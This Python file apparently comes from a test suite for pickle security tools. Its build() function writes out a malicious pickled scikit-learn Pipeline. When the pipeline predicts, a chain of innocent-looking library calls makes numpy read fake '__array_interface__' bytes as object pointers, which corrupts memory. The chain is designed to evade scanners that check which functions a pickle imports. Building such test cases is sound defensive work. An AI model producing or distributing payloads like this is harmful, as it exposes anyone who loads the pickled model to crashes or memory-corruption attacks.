"""A label that numpy asks for is made while predicting, over a dict with a pointer in it."""

from __future__ import annotations

import operator
import pickle
from functools import partial
from typing import Any

import numpy as np
import pandas as pd
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer


def build(canary: str) -> bytes:
    del canary
    part = {"data": b"AAAAAAAA" * 4, "shape": (4,), "typestr": "|O", "version": 3}
    functions: list[Any] = [
        np.ndim,
        np.arange,
        partial(pd.Series, [part, part]),
        operator.methodcaller("rename", {0: "__array_interface__"}),
        np.asarray,
    ]
    steps = [(str(n), FunctionTransformer(function)) for n, function in enumerate(functions)]
    return pickle.dumps(Pipeline(steps), 4)
